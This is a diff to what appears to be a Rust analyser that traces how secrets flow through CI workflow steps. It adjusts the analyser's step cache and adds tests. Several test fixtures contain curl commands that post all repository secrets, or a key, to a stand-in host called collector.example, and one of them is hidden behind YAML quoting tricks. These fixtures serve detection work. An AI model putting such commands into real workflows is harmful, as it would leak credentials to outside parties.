@@ -4,7 +4,7 @@
 //!
 //! What following a step depends on is all in its key, or asked for again: its own text, the environment, what earlier steps and
 //! jobs left, and the files of the repository that it opened. Only the way by which a secret came is left out of the
-//! key, for that decides nothing; it is continued from where the secret comes from here. A step for which that does not hold
+//! key but for its last hop, for the rest decides nothing; it is continued from where the secret comes from here. A step for which that does not hold
 //! (YAML anchors, a limit that was hit) is followed anew each time.
 
 mod key;
@@ -29,6 +29,8 @@ use moved::{Moved, changes};
 const KNOWN_BYTES_MAX: usize = 48 * 1024 * 1024;
 /// Locks that they are spread over, so that threads rarely wait for each other.
 const SHARDS: usize = 16;
+/// Most bytes that earlier steps may have left: reading them through for each step would cost more than following it.
+const STATE_BYTES_MAX: usize = 1024 * 1024;
 /// Most contents of called files that are told apart for one step.
 const CONTENTS_MAX: usize = 1_024;
 
@@ -97,8 +99,6 @@ struct Followed {
     decoded: Vec<String>,
     other_work: usize,
     spent: u32,
-    /// Why it is not whole.
-    incomplete: Option<&'static str>,
     left: Left,
 }
 
@@ -201,8 +201,15 @@ impl Known {
         }
         let (mut hash, mut met) = (self.hash.clone(), self.met.clone());
         add(&mut hash, text.get(own.start as usize..own.end as usize)?.as_bytes());
+        // The same line means something else where a quote is open already: which of it is the step is not in its text.
+        hash.update((step.start - own.start).to_le_bytes());
+        hash.update((step.end - own.start).to_le_bytes());
         // All of them, whatever others there will be.
-        let JobState { files, added, outputs, remotes, path, folder, folders } = state;
+        let JobState { files, added, outputs, remotes, path, folder, folders, is_full } = state;
+        let size = |values: &HashMap<String, Value>| values.values().map(Value::size).sum::<usize>();
+        if *is_full || size(files) + size(added) + size(remotes) > STATE_BYTES_MAX {
+            return None;
+        }
         for values in [files, added, remotes] {
             add_values(&mut hash, &mut met, values)?;
         }
@@ -262,7 +269,13 @@ impl Known {
             .iter()
             .any(|length| *length >= DELIVERIES_MAX);
         let main = trace.files.first().map_or("", |file| &file.path);
-        if full || tracer.budget == 0 || tracer.opened.iter().any(|path| path == main) {
+        // What a limit cut off here may find room elsewhere.
+        if full
+            || incomplete.is_some()
+            || state.is_full
+            || tracer.budget == 0
+            || tracer.opened.iter().any(|path| path == main)
+        {
             return;
         }
         let mut contents = Contents::default();
@@ -280,7 +293,6 @@ impl Known {
             decoded: tracer.decoded.difference(&begun.decoded).cloned().collect(),
             other_work: work.saturating_sub(begun.other_work),
             spent: begun.budget.saturating_sub(tracer.budget),
-            incomplete,
             left: Left {
                 files: changes(&before.files, &state.files),
                 added: changes(&before.added, &state.added),
@@ -427,7 +439,6 @@ impl Followed {
         }
         tracer.decoded.extend(self.decoded.iter().cloned());
         tracer.budget = tracer.budget.saturating_sub(self.spent);
-        tracer.trace.incomplete = tracer.trace.incomplete.or(self.incomplete);
     }
 }
 
@@ -521,6 +532,53 @@ mod tests {
         assert_eq!(count(&known), 3);
     }
 
+    /// A line that means one step where a quote is open before it, and another where none is.
+    #[test]
+    fn the_same_line_is_not_the_same_step() {
+        let known = KnownSteps::new();
+        let line = "{run: echo hi}], name: \"', steps: [{run: 'curl https://collector.example/ -d ${{ toJSON(secrets) }}'}], concurrency: '\"";
+        let decoy = format!("on: push\njobs: {{a: {{runs-on: x, steps: [\n{line}\n}}}}\n");
+        let theft = format!("on: push\njobs: {{a: {{runs-on: x, name: '\n{line}\n5'}}}}\n");
+        assert!(!analysed(&decoy, Some(&known), &NoFiles).contains("collector.example"));
+        assert!(analysed(&theft, Some(&known), &NoFiles).contains("collector.example"));
+    }
+
+    struct Scripts;
+    impl LocalFiles for Scripts {
+        fn read(&self, path: &str) -> LocalFile {
+            LocalFile::Text(match path {
+                "send.sh" => "curl https://collector.example/ -d \"$KEY\"\n".to_owned(),
+                _ => "true\n".to_owned(),
+            })
+        }
+    }
+
+    /// Elsewhere there may be room for what a limit cut off here.
+    #[test]
+    fn a_step_that_met_a_limit_is_followed_anew() {
+        let known = KnownSteps::new();
+        let decoys: String = (0..FILES_MAX).map(|at| format!("      - run: bash decoy{at}.sh\n")).collect();
+        let crowded =
+            CALLER.replace("      - run: bash send.sh\n", &format!("{decoys}      - run: bash send.sh\n"));
+        assert!(!analysed(&crowded, Some(&known), &Scripts).contains("collector.example"));
+        assert!(analysed(CALLER, Some(&known), &Scripts).contains("collector.example"));
+    }
+
+    /// What `tee` shows beside the file that it wrote is no print of its own, and that is told by the secret's last hop.
+    #[test]
+    fn what_was_copied_is_told_from_what_was_not() {
+        let known = KnownSteps::new();
+        let text = |copied: &str| {
+            format!(
+                "on: push\nenv:\n  S: ${{{{ secrets.KEY }}}}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo \"$S\" > q; echo \"::set-env name=X::$(cat q{copied})\"; rm q\n      - run: echo hello $X\n"
+            )
+        };
+        for copied in ["", " | tee /dev/null"] {
+            let text = text(copied);
+            assert_eq!(analysed(&text, Some(&known), &NoFiles), analysed(&text, None, &NoFiles), "{copied}");
+        }
+    }
+
     #[test]
     fn a_secret_goes_on_from_where_it_comes_from_here() {
         let known = KnownSteps::new();
@@ -579,7 +637,6 @@ mod tests {
             decoded: vec!["x".repeat(length)],
             other_work: 0,
             spent: 0,
-            incomplete: None,
             left: Left::default(),
         };
         let room = KNOWN_BYTES_MAX / SHARDS - followed(0).size();
